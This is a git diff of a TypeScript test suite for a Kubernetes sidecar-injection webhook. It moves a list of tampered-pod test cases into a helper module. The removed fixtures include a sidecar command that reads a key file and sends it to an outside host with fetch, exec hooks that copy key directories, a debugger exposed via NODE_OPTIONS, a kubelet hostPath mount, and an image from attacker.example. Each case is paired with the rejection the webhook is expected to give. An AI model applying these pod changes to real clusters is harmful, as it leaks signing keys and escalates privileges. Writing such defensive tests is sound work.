@@ -9,9 +9,8 @@ import { runCli } from '../helpers/cli-process.js';
 import { startInjectorStack } from '../helpers/injector-stack.js';
 import { DEFAULTS } from '../helpers/injection.js';
 import { parseEntitlementPolicy } from '../../src/injection/policy/entitlement-policy.js';
-import type { Container, EnvVar, PodTemplate } from '../../src/injection/pod.js';
+import { CARRIED_ATTACKS, setEnv, sidecarOf, type Pod } from '../helpers/hostile-pods.js';
 
-type Pod = PodTemplate & { apiVersion: string; kind: string };
 interface Review {
   response: { allowed: boolean; patch?: string; status?: { message: string } };
 }
@@ -41,137 +40,6 @@ async function injectedPod(): Promise<Pod> {
   return parse(result.stdout) as Pod;
 }
 
-const sidecarOf = (pod: Pod): Container => pod.spec.initContainers!.find((c) => c.name === 'sfd-sidecar')!;
-const setEnv = (container: Container, name: string, entry: Omit<EnvVar, 'name'>) => {
-  container.env = [...container.env!.filter((e) => e.name !== name), { name, ...entry }];
-};
-const appOf = (pod: Pod): Container => pod.spec.containers[0]!;
-
-const ATTACKS: [title: string, change: (pod: Pod) => void, expected: RegExp][] = [
-  [
-    'a sidecar that signs as a profile its service account is not entitled to',
-    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { value: 'payroll' }),
-    /may not use profile payroll/,
-  ],
-  [
-    'a sidecar that may pick such a profile per request',
-    (pod) => {
-      setEnv(sidecarOf(pod), 'SFD_ALLOWED_PROFILES', { value: 'billing,payroll' });
-      setEnv(sidecarOf(pod), 'SFD_PROFILE_HEADER', { value: 'X-Pick' });
-    },
-    /may not use profile payroll/,
-  ],
-  [
-    'a sidecar whose profile comes from a ConfigMap',
-    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { valueFrom: { configMapKeyRef: { name: 'c', key: 'p' } } }),
-    /SFD_PROFILE comes from valueFrom/,
-  ],
-  [
-    'a sidecar whose profile is a reference to another variable',
-    (pod) => setEnv(sidecarOf(pod), 'SFD_PROFILE', { value: '$(PROFILE)' }),
-    /SFD_PROFILE is not a profile name/,
-  ],
-  [
-    'a sidecar taking variables by envFrom',
-    (pod) => (sidecarOf(pod).envFrom = [{ configMapRef: { name: 'settings' } }]),
-    /envFrom/,
-  ],
-  [
-    'a sidecar started with NODE_OPTIONS=--inspect',
-    (pod) => setEnv(sidecarOf(pod), 'NODE_OPTIONS', { value: '--inspect=0.0.0.0:9229' }),
-    /NODE_OPTIONS, which injection never writes/,
-  ],
-  [
-    'a sidecar with an exec probe',
-    (pod) => (sidecarOf(pod).livenessProbe = { exec: { command: ['cp', '-r', '/etc/sfd-sidecar/keys', '/x'] } }),
-    /livenessProbe is not an httpGet probe/,
-  ],
-  [
-    'a sidecar with an exec postStart hook',
-    (pod) => (sidecarOf(pod).lifecycle = { postStart: { exec: { command: ['cp', '/k', '/shared'] } } }),
-    /lifecycle hooks are not the wait-ready hook/,
-  ],
-  [
-    'a sidecar mounting a shared emptyDir besides its keys',
-    (pod) => {
-      pod.spec.volumes!.push({ name: 'shared', emptyDir: {} });
-      sidecarOf(pod).volumeMounts!.push({ name: 'shared', mountPath: '/app' });
-    },
-    /mounts sfd-sidecar-keystore, sfd-sidecar-no-token, shared; injection mounts .* and nothing else/,
-  ],
-  [
-    'a sidecar holding the service account token (its no-token mount taken away)',
-    (pod) =>
-      (sidecarOf(pod).volumeMounts = sidecarOf(pod).volumeMounts!.filter((m) => m.name !== 'sfd-sidecar-no-token')),
-    /injection mounts sfd-sidecar-keystore and sfd-sidecar-no-token/,
-  ],
-  [
-    'a sidecar whose no-token volume is a shared one the application writes',
-    (pod) => {
-      const volume = pod.spec.volumes!.find((v) => v.name === 'sfd-sidecar-no-token')!;
-      delete volume.emptyDir;
-      volume.persistentVolumeClaim = { claimName: 'shared' };
-    },
-    /its volume sfd-sidecar-no-token is not an emptyDir/,
-  ],
-  [
-    'a sidecar mounting its no-token volume elsewhere, writable',
-    (pod) => (sidecarOf(pod).volumeMounts![1] = { name: 'sfd-sidecar-no-token', mountPath: '/tmp' }),
-    /its mount of sfd-sidecar-no-token is not as injection writes it/,
-  ],
-  [
-    'a sidecar with a working directory of its own',
-    (pod) => (sidecarOf(pod).workingDir = '/shared'),
-    /it sets workingDir/,
-  ],
-  [
-    'a sidecar with a command of its own',
-    (pod) => (sidecarOf(pod).command = ['node', '-e', 'fetch("http://x", {body: require("fs").readFileSync("/k")})']),
-    /it sets command/,
-  ],
-  [
-    'a copy that shares the process namespace with an app at the sidecar user',
-    (pod) => {
-      pod.spec.shareProcessNamespace = true;
-      appOf(pod).securityContext = { runAsUser: 65532, allowPrivilegeEscalation: false };
-    },
-    /runs as the sidecar's user 65532/,
-  ],
-  [
-    'a copy whose app mounts the key store volume',
-    (pod) => (appOf(pod).volumeMounts = [{ name: 'sfd-sidecar-keystore', mountPath: '/k' }]),
-    /container web mounts volume sfd-sidecar-keystore/,
-  ],
-  [
-    'a copy whose app mounts the node through hostPath',
-    (pod) => {
-      pod.spec.volumes!.push({ name: 'node', hostPath: { path: '/var/lib/kubelet' } });
-      appOf(pod).volumeMounts = [{ name: 'node', mountPath: '/node' }];
-    },
-    /volume node is a hostPath/,
-  ],
-  [
-    'a sidecar on the port its application declares (as a fixed patch may leave it)',
-    (pod) => (appOf(pod).ports = [{ containerPort: 8080 }]),
-    /its sidecar listens on 8080 \(SFD_LISTEN\), which is declared by container web/,
-  ],
-  [
-    'a sidecar pinned to a release from before operation limits',
-    (pod) => (sidecarOf(pod).image = 'ghcr.io/sfd-sidecar/sfd-sidecar:0.1.0'),
-    /its image 0\.1\.0 is older than/,
-  ],
-  [
-    "a sidecar pinned to a digest that is not the injector's",
-    (pod) => (sidecarOf(pod).image = `ghcr.io/sfd-sidecar/sfd-sidecar:9.9.9@sha256:${'b'.repeat(64)}`),
-    /digest that is not the injector's own/,
-  ],
-  [
-    'a sidecar from another image',
-    (pod) => (sidecarOf(pod).image = 'attacker.example/sfd-sidecar:0.1.0'),
-    /its image is not from ghcr.io\/sfd-sidecar\/sfd-sidecar/,
-  ],
-];
-
 test('a pod injected offline for an entitled account is left as it is', async (t) => {
   const stack = await startInjectorStack(t, DEFAULTS, { policy: () => POLICY });
   const answer = JSON.parse((await stack.post('/mutate', admissionReviewOf(await injectedPod()))).body) as Review;
@@ -181,7 +49,7 @@ test('a pod injected offline for an entitled account is left as it is', async (t
   ]);
 });
 
-for (const [title, change, expected] of ATTACKS) {
+for (const [title, change, expected] of CARRIED_ATTACKS) {
   test(`refused through the webhook: ${title}`, async (t) => {
     const stack = await startInjectorStack(t, DEFAULTS, { policy: () => POLICY });
     const pod = await injectedPod();
